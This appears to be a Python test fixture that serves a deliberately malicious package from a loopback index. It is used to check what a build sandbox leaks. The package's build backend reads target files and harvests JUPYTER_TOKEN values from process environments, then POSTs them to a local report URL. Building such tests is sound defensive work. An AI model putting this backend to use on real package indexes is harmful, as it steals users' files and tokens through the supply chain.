"""An attacker's package on a loopback package index: its build backend runs code when pip builds it.

The sdist has an in-tree PEP 517 backend (``requires = []``, so pip needs nothing else from the
index). Building it reads what it can of the targets, reports that to the index over HTTP (the
network is what a sandbox does not contain), and fails. The index records every report.
"""

from __future__ import annotations

import io
import json
import tarfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Sequence

PACKAGE = "attacker-package"

BACKEND = r'''
import glob, json, os, urllib.request
def _report():
    read = {}
    for path in TARGETS:
        try:
            with open(path, "rb") as f:
                read[path] = f.read().decode(errors="replace")
        except OSError as exc:
            read[path] = type(exc).__name__
    tokens = []
    for path in glob.glob("/proc/*/environ"):
        try:
            with open(path, "rb") as f:
                tokens += [v.decode() for v in f.read().split(b"\0") if v.startswith(b"JUPYTER_TOKEN=")]
        except OSError:
            pass
    body = json.dumps({"uid": os.getuid(), "read": read, "tokens": tokens, "cwd": os.getcwd()}).encode()
    urllib.request.urlopen(urllib.request.Request(REPORT_URL, data=body, method="POST"), timeout=10).read()
def get_requires_for_build_wheel(config_settings=None):
    _report()
    raise RuntimeError("the attacker's build ends here")
build_wheel = get_requires_for_build_sdist = build_sdist = get_requires_for_build_wheel
'''


def _sdist(targets: Sequence[str], report_url: str) -> bytes:
    files = {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
        "backend.py": f"TARGETS = {list(targets)!r}\nREPORT_URL = {report_url!r}\n" + BACKEND,
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {PACKAGE}\nVersion: 1.0\n",
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"attacker_package-1.0/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


class EvilIndex:
    """A PEP 503 simple index with one package, collecting its build reports; ``targets`` set before builds."""

    def __init__(self) -> None:
        self.reports: list[dict[str, Any]] = []
        self.targets: list[str] = []
        index = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                if self.path.rstrip("/") == f"/simple/{PACKAGE}":
                    body = f'<a href="/files/attacker_package-1.0.tar.gz">attacker_package-1.0.tar.gz</a>'.encode()
                    self._answer(200, body, "text/html")
                elif self.path == "/files/attacker_package-1.0.tar.gz":
                    self._answer(200, _sdist(index.targets, index.url + "/report"), "application/gzip")
                else:
                    self._answer(404, b"not here", "text/plain")

            def do_POST(self) -> None:  # noqa: N802
                length = int(self.headers.get("Content-Length", "0"))
                index.reports.append(json.loads(self.rfile.read(length)))
                self._answer(200, b"thanks", "text/plain")

            def _answer(self, status: int, body: bytes, kind: str) -> None:
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> "EvilIndex":
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(5)
